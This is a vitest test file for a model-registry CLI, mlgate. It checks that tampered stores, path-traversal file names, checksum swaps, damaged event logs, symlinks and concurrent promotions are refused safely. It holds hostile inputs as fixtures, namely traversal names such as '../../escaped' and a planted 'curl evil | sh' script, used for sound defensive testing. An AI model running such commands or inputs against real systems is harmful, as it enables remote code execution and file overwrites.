import { execFileSync, spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeEach, describe, expect, it } from 'vitest';
import { cli } from '../support/cli.js';

/**
 * Issue 12, hostile inputs against the local registry: a tampered store never writes outside
 * `--out` (or leaves anything in it), a damaged event log is tolerated or named, concurrent
 * promotions never share an event number, and every bad input exits with one line.
 */
const ROOT = fileURLToPath(new URL('../../', import.meta.url));

/** Every file under `folder`, relative, so a test can say "nothing else appeared". */
function tree(folder: string, prefix = ''): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? tree(join(folder, entry.name), `${prefix}${entry.name}/`) : [`${prefix}${entry.name}`]).sort();
}

function oneLine(stderr: string): void {
  expect(stderr.endsWith('\n')).toBe(true);
  expect(stderr.trimEnd().split('\n')).toHaveLength(1);
}

describe('hostile local registry', () => {
  let dir: string;
  let store: string;
  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mlgate-hostile-'));
    store = join(dir, 'store');
    writeFileSync(join(dir, 'model.bin'), 'weights');
    const published = await cli('publish', '--model', 'm', '--version', '1.0.0', '--files', join(dir, 'model.bin'), '--store', store, '--out', join(dir, 'publish-out'));
    expect(published.exitCode, published.stderr).toBe(0);
  });

  it.each(['../../escaped', '/tmp/escaped-abs', 'a/../../escaped', '..', 'x\u0000y', 'line\n::error::x'])(
    'a .version.json naming %j writes nothing, inside or outside --out, with one line', async (name) => {
      const recordFile = join(store, 'm', 'v1.0.0', '.version.json');
      const record = JSON.parse(readFileSync(recordFile, 'utf8'));
      record.files[0].name = name;
      writeFileSync(recordFile, JSON.stringify(record));
      const before = tree(dir);
      const out = join(dir, 'a', 'b', 'out');
      const fetched = await cli('fetch', '--model', 'm', '--version', '1.0.0', '--out', out, '--store', store);
      // A tampered record is bad input (exit 2) naming the file and the field; digests are not involved.
      expect(fetched.exitCode, fetched.stderr).toBe(2);
      oneLine(fetched.stderr);
      expect(fetched.stderr).toContain('.version.json: `files[0].name`');
      expect(tree(dir)).toEqual(before);
    });

  it.each(['../escaped', 'sub/escaped', 'sub\\escaped', '.hidden', 'x\u0001y'])(
    'a SHA256SUMS naming %j writes nothing and leaves an existing --out as it was', async (name) => {
      const version = join(store, 'm', 'v1.0.0');
      appendFileSync(join(version, 'SHA256SUMS'), `${'0'.repeat(64)}  ${name}\n`);
      const out = join(dir, 'out');
      mkdirSync(out);
      writeFileSync(join(out, 'mine.txt'), 'kept');
      const before = tree(dir);
      const fetched = await cli('fetch', '--model', 'm', '--version', '1.0.0', '--out', out, '--store', store);
      expect(fetched.exitCode).toBe(1);
      oneLine(fetched.stderr);
      expect(fetched.stderr).toContain('nothing was written');
      expect(tree(dir)).toEqual(before);
    });

  it('a file the store holds beside SHA256SUMS is neither fetched nor listed', async () => {
    writeFileSync(join(store, 'm', 'v1.0.0', 'extra.sh'), 'curl evil | sh');
    const out = join(dir, 'out');
    const fetched = await cli('fetch', '--model', 'm', '--version', '1.0.0', '--out', out, '--store', store);
    expect(fetched.exitCode, fetched.stderr).toBe(0);
    const listed = JSON.parse(fetched.stdout).files.map((f: { name: string }) => f.name) as string[];
    expect(listed).toContain('model.bin');
    expect(listed).not.toContain('extra.sh');
    expect(tree(out)).toEqual([...listed, 'SHA256SUMS'].sort());
  });

  it('a fetch into a folder holding one of the names replaces nothing and exits 2 with one line', async () => {
    const out = join(dir, 'out');
    mkdirSync(out);
    writeFileSync(join(out, 'model.bin'), 'mine');
    const fetched = await cli('fetch', '--model', 'm', '--version', '1.0.0', '--out', out, '--store', store);
    expect(fetched.exitCode).toBe(2);
    oneLine(fetched.stderr);
    expect(readFileSync(join(out, 'model.bin'), 'utf8')).toBe('mine');
    expect(tree(out)).toEqual(['model.bin']);
  });

  it('a model file swapped, with SHA256SUMS and .version.json rewritten to match, is caught by lineage.json (exit 1, one line, nothing written)', async () => {
    const version = join(store, 'm', 'v1.0.0');
    expect(existsSync(join(version, 'lineage.json'))).toBe(true);
    const swapped = 'other weights';
    const digest = createHash('sha256').update(swapped).digest('hex');
    const original = createHash('sha256').update('weights').digest('hex');
    writeFileSync(join(version, 'model.bin'), swapped);
    writeFileSync(join(version, 'SHA256SUMS'), readFileSync(join(version, 'SHA256SUMS'), 'utf8').replace(original, digest));
    const record = JSON.parse(readFileSync(join(version, '.version.json'), 'utf8'));
    Object.assign(record.files.find((f: { name: string }) => f.name === 'model.bin'), { sha256: digest, size: swapped.length });
    writeFileSync(join(version, '.version.json'), JSON.stringify(record));
    const out = join(dir, 'out');
    const fetched = await cli('fetch', '--model', 'm', '--version', '1.0.0', '--out', out, '--store', store);
    expect(fetched.exitCode, fetched.stderr).toBe(1);
    oneLine(fetched.stderr);
    expect(fetched.stderr).toContain(`model.bin has SHA-256 ${digest} in SHA256SUMS but ${original} in lineage.json; nothing was written`);
    expect(existsSync(out)).toBe(false);
  });

  it('a store inside a git work tree takes one version of a model per commit (exit 2, one line, as the GitHub backend)', async () => {
    const repository = join(dir, 'repo');
    mkdirSync(repository);
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd: repository, encoding: 'utf8' }).trim();
    git('init', '-q');
    git('commit', '-q', '--allow-empty', '-m', 'train');
    const head = git('rev-parse', 'HEAD');
    const inRepo = join(repository, '.mlgate', 'registry');
    const publish = (v: string) => cli('publish', '--model', 'm', '--version', v, '--files', join(dir, 'model.bin'), '--store', inRepo, '--out', join(dir, `out-${v}`));
    expect((await publish('1.0.0')).exitCode).toBe(0);
    const second = await publish('1.1.0');
    expect(second.exitCode).toBe(2);
    oneLine(second.stderr);
    expect(second.stderr).toContain(`m@v1.0.0 is already registered on commit ${head.slice(0, 12)}; GTO allows one version of a model per commit — commit the change (e.g. its parameters) before publishing v1.1.0`);
    expect(existsSync(join(inRepo, 'm', 'v1.1.0'))).toBe(false);
    git('commit', '-q', '--allow-empty', '-m', 'retrain');
    expect((await publish('1.1.0')).exitCode).toBe(0);
  });

  it('a torn last event is ignored with a warning by fetch, promote and lineage', async () => {
    expect((await cli('promote', '--model', 'm', '--version', '1.0.0', '--stage', 'production', '--store', store)).exitCode).toBe(0);
    appendFileSync(join(store, 'm', 'events.jsonl'), '{"model":"m","stage":"stag');
    const fetched = await cli('fetch', '--model', 'm', '--stage', 'production', '--out', join(dir, 'out'), '--store', store);
    expect(fetched.exitCode, fetched.stderr).toBe(0);
    expect(fetched.stderr).toContain('events.jsonl: line 2 is cut short');
    const lineage = await cli('lineage', '--model', 'm', '--store', store, '--format', 'json', '--output', join(dir, 'lineage.json'));
    expect(lineage.exitCode, lineage.stderr).toBe(0);
    const promoted = await cli('promote', '--model', 'm', '--version', '1.0.0', '--stage', 'staging', '--store', store);
    expect(promoted.exitCode, promoted.stderr).toBe(0);
    expect(JSON.parse(promoted.stdout).tag).toBe('m#staging#2');
  });

  it('a damaged middle event exits 2 with one line naming the file and the line', async () => {
    expect((await cli('promote', '--model', 'm', '--version', '1.0.0', '--stage', 'production', '--store', store)).exitCode).toBe(0);
    const log = join(store, 'm', 'events.jsonl');
    writeFileSync(log, `{"model":"m"\n${readFileSync(log, 'utf8')}`);
    for (const argv of [
      ['fetch', '--model', 'm', '--stage', 'production', '--out', join(dir, 'out'), '--store', store],
      ['promote', '--model', 'm', '--version', '1.0.0', '--stage', 'staging', '--store', store],
      ['lineage', '--model', 'm', '--store', store, '--output', join(dir, 'lineage.md')],
    ]) {
      const result = await cli(...argv);
      expect(result.exitCode, argv[0]).toBe(2);
      oneLine(result.stderr);
      expect(result.stderr).toContain(`${log}: line 1 is not a stage event`);
    }
    expect(existsSync(join(dir, 'out'))).toBe(false);
  });

  it('refuses a model file linked out of the working directory (exit 2, one line), before writing anything', async () => {
    const work = mkdtempSync(join(tmpdir(), 'mlgate-hostile-work-'));
    writeFileSync(join(dir, 'secret'), 'secret');
    symlinkSync(join(dir, 'secret'), join(work, 'model.bin'));
    const cwd = process.cwd();
    process.chdir(work);
    try {
      const published = await cli('publish', '--model', 'm', '--version', '2.0.0', '--files', 'model.bin', '--store', store, '--out', join(work, 'out'));
      expect(published.exitCode).toBe(2);
      oneLine(published.stderr);
      expect(published.stderr).toContain('model.bin is a symbolic link (or inside a linked folder)');
    } finally {
      process.chdir(cwd);
    }
    expect(tree(work)).toEqual(['model.bin']);
    expect(existsSync(join(store, 'm', 'v2.0.0'))).toBe(false);
  });
});

describe('concurrent promotions (separate processes)', () => {
  const run = (argv: string[]) => new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [join(ROOT, 'bin', 'mlgate.js'), ...argv], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr.on('data', (chunk) => (stderr += chunk));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });

  it('never let two versions of a model onto one commit', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mlgate-hostile-commit-race-'));
    execFileSync('git', ['init', '-q'], { cwd: dir });
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-q', '--allow-empty', '-m', 'train'], { cwd: dir });
    const store = join(dir, 'store');
    writeFileSync(join(dir, 'model.bin'), 'weights');
    const results = await Promise.all(['1.0.0', '1.0.1', '1.0.2', '1.0.3'].map((v) => run(['publish', '--model', 'm', '--version', v, '--files', join(dir, 'model.bin'), '--store', store, '--out', join(dir, `o-${v}`)])));
    expect(results.map((r) => r.code).sort()).toEqual([0, 2, 2, 2]);
    for (const result of results.filter((r) => r.code === 2)) expect(result.stderr).toMatch(/is already registered on commit [0-9a-f]{12}; GTO allows one version/);
    expect(readdirSync(join(store, 'm')).filter((entry) => entry.startsWith('v') || entry.startsWith('.staging'))).toHaveLength(1);
  }, 30_000);

  it('never give two promotions the same event number', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mlgate-hostile-race-'));
    const store = join(dir, 'store');
    writeFileSync(join(dir, 'model.bin'), 'weights');
    expect((await run(['publish', '--model', 'm', '--version', '1.0.0', '--files', join(dir, 'model.bin'), '--store', store, '--out', join(dir, 'o')])).code).toBe(0);
    const results = await Promise.all(Array.from({ length: 6 }, (_, i) => run(['promote', '--model', 'm', '--version', '1.0.0', '--stage', `s${i}`, '--store', store])));
    for (const result of results) expect(result.code, result.stderr).toBe(0);
    const numbers = results.map((r) => JSON.parse(r.stdout).number as number).sort((a, b) => a - b);
    expect(numbers).toEqual([1, 2, 3, 4, 5, 6]);
    const logged = readFileSync(join(store, 'm', 'events.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line).number);
    expect(logged).toEqual([1, 2, 3, 4, 5, 6]);
  }, 30_000);
});
